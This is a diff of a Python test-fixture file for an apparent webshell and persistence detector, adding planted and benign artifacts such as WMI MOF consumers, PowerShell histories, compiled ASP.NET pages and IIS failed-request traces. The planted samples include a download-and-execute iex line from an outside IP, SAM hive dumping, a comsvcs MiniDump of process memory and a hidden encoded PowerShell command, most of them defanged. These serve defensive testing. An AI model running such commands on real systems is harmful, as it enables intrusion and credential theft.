@@ -1,4 +1,3 @@
-# ruff: noqa: E501 - one row is one line
 """Rows of tasks, WMI, BITS, start-up folders, and of witnesses besides pages and logs."""
 
 from __future__ import annotations
@@ -6,11 +5,13 @@ from __future__ import annotations
 from functools import partial
 from typing import Final
 
+from tests.builders.failed_requests import failed_request
 from tests.builders.inert import live
 from tests.builders.machine_records import bits_queue, consumer_of, wmi_instance, wmi_repository
 from tests.builders.shortcuts import shortcut
 from tests.builders.tasks import job_file, task_file
-from tests.persistence.plants import Change, Plant, added, honest, plant
+from tests.persistence.plants import FRAMEWORK, Change, Plant, added, honest, plant
+from webshellhunt.binaries.compiled_pages import directory_hash
 from webshellhunt.model.verdict import Disposition
 
 TASKS: Final = "C/Windows/System32/Tasks"
@@ -18,6 +19,7 @@ OF_WINDOWS: Final = f"{TASKS}/Microsoft/Windows"
 _NGEN: Final = "{84F0FAE1-C27B-4F6F-807B-28CF6F96287D}"
 _UNKNOWN: Final = "{5B1C9D2E-7A44-4F0B-9E21-0C3D5A6B7F80}"
 _EVERY_5_MINUTES: Final = "<TimeTrigger><Repetition><Interval>PT5M</Interval></Repetition></TimeTrigger>"
+_DAILY: Final = "<CalendarTrigger><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>"
 _POWERSHELL: Final = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
 _ENCODED: Final = "-NoP -W Hidden -e·nc SQBuAGUAcgB0ACAAdABlAHgAdAAgAG8AbgBsAHkALgAgAEkAbgBlAHIAdAA="
 
@@ -54,6 +56,9 @@ _ODD_TASKS = {
     "profile as SYSTEM": (r"C:\Users\exadmin\AppData\Roaming\a.exe", ""),
     "script in System32": (_POWERSHELL, r"-ep bypass -f C:\Windows\System32\wupd.ps1"),
     "port proxy": ("netsh.exe", "interface port·proxy add v4tov4 listenport=8443 connectport=3389 connectaddress=192.0.2.7"),
+    "name of a service of Windows": (r"C:\Windows\svchost.exe", "-k netsvcs"),
+    "name of a service of Windows in Program Files": (r"C:\Program Files\Common Files\spoolsv.exe", ""),
+    "product in ProgramData at each start": (r"C:\ProgramData\Vendor\a.exe", ""),
     "account": ("net.exe", "us·er support Passw0rd /add"),
     "a page written": (
         "cmd.exe",
@@ -71,7 +76,16 @@ def consumer(kind: str, *texts: str) -> Change:
     return added(REPOSITORY, partial(consumer_of, kind, "Updater", *texts))
 
 
+def _mof(kind: str, value: str) -> Change:
+    text = f'instance of {kind} as $Cons\n{{\n    Name = "Updater";\n    {value};\n}};\n'
+    return added("C/Windows/System32/wbem/AutoRecover/4A1F.mof", lambda: live(text).encode("utf-16"))
+
+
 _WMI: tuple[Plant, ...] = (
+    plant(43, "WMI: command of a MOF file", "WSH4084", _mof("CommandLineEventConsumer", f'CommandLineTemplate = "powershell.exe {_ENCODED}"')),
+    plant(43, "WMI: program of a MOF file", "WSH4084", _mof("CommandLineEventConsumer", r'CommandLineTemplate = "C:\\Windows\\System32\\srvchk.exe"')),
+    plant(43, "WMI: script of a MOF file", "WSH4084", _mof("ActiveScriptEventConsumer", 'ScriptText = "inert text"')),
+    honest(43, "WMI: MOF file of a log", _mof("NTEventLogEventConsumer", "Category = 0")),
     plant(43, "WMI: encoded command", "WSH4081", consumer("CommandLineEventConsumer", f"powershell.exe {_ENCODED}")),
     plant(43, "WMI: program in public folder", "WSH4081", consumer("CommandLineEventConsumer", r"C:\Users\Public\u.exe")),
     plant(43, "WMI: program of Windows", "WSH4081", consumer("CommandLineEventConsumer", r"C:\Windows\System32\srvchk.exe -k")),
@@ -126,8 +140,64 @@ _STARTS: tuple[Plant, ...] = (
     honest(42, "set-up: product", added("C/Windows/Setup/Scripts/SetupComplete.cmd", 'msiexec /i "C:\\Program Files\\Vendor\\a.msi" /qn\r\n')),
 )  # fmt: skip
 
+_PSREADLINE: Final = "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
+_OF_SYSTEM: Final = f"C/Windows/System32/config/systemprofile/{_PSREADLINE}"
+_ADMIN: Final = f"C/Users/exadmin/{_PSREADLINE}"
+_HISTORIES: tuple[Plant, ...] = (
+    plant(54, "history: application pool", "WSH7232", added(f"C/Users/DefaultAppPool/{_PSREADLINE}", "whoami\n")),
+    plant(54, "history: network service", "WSH7232", added(f"C/Windows/ServiceProfiles/NetworkService/{_PSREADLINE}", "dir\n")),
+    plant(54, "history: SYSTEM, download", "WSH7232", added(_OF_SYSTEM, "dir\ni·ex (New-Object Net.WebClient).Download·String('ht·tp://192.0.2.7/a')\n")),
+    plant(54, "history: SYSTEM, credentials", "WSH7232", added(_OF_SYSTEM, "reg sa·ve hklm\\s·am C:\\Tools\\s\n")),
+    plant(54, "history: administrator, credentials", "WSH7232", added(_ADMIN, "rundll32 com·svcs.dll, Mini·Dump 620 C:\\Tools\\l.dmp full\n")),
+    honest(54, "history: administrator", added(_ADMIN, "Get-Mailbox\nGet-ExchangeServer | fl\n")),
+    honest(54, "history: administrator, installer", added(_ADMIN, "i·ex ((New-Object System.Net.WebClient).Download·String('https://community.chocolatey.org/install.ps1'))\n"), most=Disposition.UNEXPLAINED),
+    honest(54, "history: SYSTEM by PsExec", added(_OF_SYSTEM, "whoami\nGet-Service\n"), most=Disposition.UNEXPLAINED),
+)  # fmt: skip
+
+_COMPILED: Final = f"{FRAMEWORK}/Temporary ASP.NET Files/owa/8f3a1c52/1b6de0aa"
+
+
+def _marker(address: str) -> str:
+    return f'<preserve resultType="3" virtualPath="{address}" assembly="App_Web_q3xk0v_d" type="ASP.x_aspx" />'
+
+
+_COMPILED_PAGES: tuple[Plant, ...] = (
+    plant(52, "compiled: marker of a folder that Exchange lacks", "WSH5020", added(f"{_COMPILED}/lang.aspx.{directory_hash('~/auth/lang')}.compiled", _marker("/owa/auth/lang/lang.aspx"))),
+    plant(52, "compiled: assembly of a folder that Exchange lacks", "WSH5020", added(f"{_COMPILED}/App_Web_lang.aspx.{directory_hash('~/auth/lang')}.q3xk0v_d.dll", b"MZ inert")),
+    plant(52, "compiled: assembly of another application", "WSH5020", added(f"{_COMPILED.replace('/owa/', '/ecp/')}/App_Web_x.aspx.{directory_hash('~/api/v2')}.q3xk0v_d.dll.delete", b"MZ inert")),
+    honest(52, "compiled: sign-in page", added(f"{_COMPILED}/logon.aspx.{directory_hash('~/auth')}.compiled", _marker("/owa/auth/logon.aspx"))),
+    honest(52, "compiled: page of ECP", added(f"{_COMPILED.replace('/owa/', '/ecp/')}/App_Web_editdag.aspx.{directory_hash('~/dbmgmt')}.q3xk0v_d.dll", b"MZ inert")),
+    honest(52, "compiled: site of its own", added(f"{_COMPILED.replace('/owa/', '/shop/')}/App_Web_x.aspx.{directory_hash('~/admin')}.q3xk0v_d.dll", b"MZ inert")),
+)  # fmt: skip
+
+TRACE: Final = "C/inetpub/logs/FailedReqLogFiles/W3SVC1/fr000001.xml"
+_TRACES: tuple[Plant, ...] = (
+    plant(51, "failed request: code in its body", "WSH7233", added(TRACE, partial(failed_request, "https://mail.example:443/ecp/DDI/DDIService.svc/SetObject", body='{"a":"<scr·ipt runat=\\"server\\">"}'))),
+    plant(51, "failed request: gadget in its body", "WSH7233", added(TRACE, partial(failed_request, "https://sp.example/_layouts/15/ToolPane.aspx", status=200, body="MSOTlPn_DWP=Excel·DataSet"))),
+    plant(51, "failed request: page answered", "WSH7233", added(TRACE, partial(failed_request, "https://mail.example:443/owa/auth/e.aspx", status=200, body="a=1"))),
+    honest(51, "failed request: sign-in", added(TRACE, partial(failed_request, "https://mail.example:443/owa/auth.owa", status=401, body="destination=x&username=a"))),
+    honest(51, "failed request: service", added(TRACE, partial(failed_request, "https://mail.example:443/EWS/Exchange.asmx", body="<soap:Envelope><soap:Body /></soap:Envelope>"))),
+)  # fmt: skip
+
+_REPORT: Final = "C/ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_w3wp.exe_1_2_3/Report.wer"
+
+
+def _crash(module: str) -> Change:
+    text = f"AppPath=C:\\Windows\\System32\\inetsrv\\w3wp.exe\r\nLoadedModule[0]={module}\r\n"
+    return added(_REPORT, text.encode("utf-16"))
+
+
+_CRASHES: tuple[Plant, ...] = (
+    plant(51, "crash report: library in temporary folder", "WSH7234", _crash(r"C:\Windows\Temp\a.dll")),
+    honest(51, "crash report: library of Windows", _crash(r"C:\Windows\System32\inetsrv\iiscore.dll")),
+)  # fmt: skip
+
 PLANTS: tuple[Plant, ...] = (
     *_WMI,
+    *_CRASHES,
+    *_TRACES,
+    *_COMPILED_PAGES,
+    *_HISTORIES,
     *_STARTS,
     *(plant(42, f"task: {name}", "WSH4018", task("Updater", *words)) for name, words in _ODD_TASKS.items()),
     plant(
@@ -156,12 +226,14 @@ PLANTS: tuple[Plant, ...] = (
         why="the table does not have the tasks of all features of Windows Server",
     ),
     honest(42, "task: updater in Program Files", task("GoogleUpdaterTaskSystem", r"C:\Program Files (x86)\Google\GoogleUpdater\updater.exe", "--wake --system")),
+    honest(42, "task: service of Windows", task("Vendor", r"C:\Windows\SysWOW64\dllhost.exe", "/Processid:{1}")),
+    honest(42, "task: known product in ProgramData", task("Dell Update", r"C:\ProgramData\Dell\UpdateService\a.exe")),
     honest(42, "task: stock, defragmentation", _of_windows("Defrag/ScheduledDefrag", r"%windir%\system32\defrag.exe", "-c -h -k -g -$")),
     honest(42, "task: stock, NGEN", _of_windows(".NET Framework/.NET Framework NGEN v4.0.30319", class_id=_NGEN, settings="<Hidden>true</Hidden>")),
     honest(42, "task: stock, rundll32", _of_windows("Autochk/Proxy", r"%windir%\system32\rundll32.exe", "/d acproxy.dll,PerformAutochkOperations")),
     honest(42, "task: stock, with quotes and drive", _of_windows("WindowsUpdate/Scheduled Start", r'"C:\Windows\system32\sc.exe"', "start wuauserv")),
     honest(42, "task: stock, script host", _of_windows("Server Manager/CleanupOldPerfLogs", r"%systemroot%\system32\cscript.exe", r"/B /nologo %systemroot%\system32\calluxxprovider.vbs $(Arg0) $(Arg1) $(Arg2)")),
-    honest(42, "task: stock, class unknown to the table", _of_windows("TaskScheduler/Regular Maintenance", class_id=_UNKNOWN)),
+    honest(42, "task: stock, class unknown to the table", _of_windows("Deduplication/BackgroundOptimization", class_id=_UNKNOWN)),
     honest(42, "task: stock, Defender", _of_windows("Windows Defender/Windows Defender Cleanup", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25110.6-0\MpCmdRun.exe", "-IdleTask -TaskName WdCleanup")),
     honest(42, "task: backup of Windows Server", _of_windows("Backup/Microsoft-Windows-WindowsBackup", r"%windir%\System32\wbadmin.exe", "start backup -templateId:{7ebb4591-9c90-453e-b961-1607a5656f03} -quiet")),
     honest(42, "task: logs of IIS are cleaned by PowerShell", task("Clean logs", "powershell.exe", r'-ExecutionPolicy Bypass -File "C:\Scripts\Clean-Logs.ps1" -Path C:\inetpub\logs\LogFiles -Days 30')),
@@ -174,5 +246,5 @@ PLANTS: tuple[Plant, ...] = (
     honest(42, "task: OneDrive of a user", task("OneDrive Standalone Update Task-S-1-5-21-1-2-3-1000", r"C:\Users\exadmin\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", account="S-1-5-21-1-2-3-1000")),
     honest(42, "task: library of a printer", task("Printer", "rundll32.exe", r'"C:\Program Files\HP\HP Printer\Bin\HPStatus.dll",Run')),
     honest(42, "task: share of the domain", task("Inventory", r"\\contoso.example\netlogon\inventory.exe"), most=Disposition.UNEXPLAINED),
-    honest(42, "task: product in ProgramData", task("Vendor", r"C:\ProgramData\Vendor\Agent\u.exe", "-s"), most=Disposition.UNEXPLAINED),
+    honest(42, "task: product in ProgramData", task("Vendor", r"C:\ProgramData\Vendor\Agent\u.exe", "-s", triggers=_DAILY), most=Disposition.UNEXPLAINED),
 )  # fmt: skip
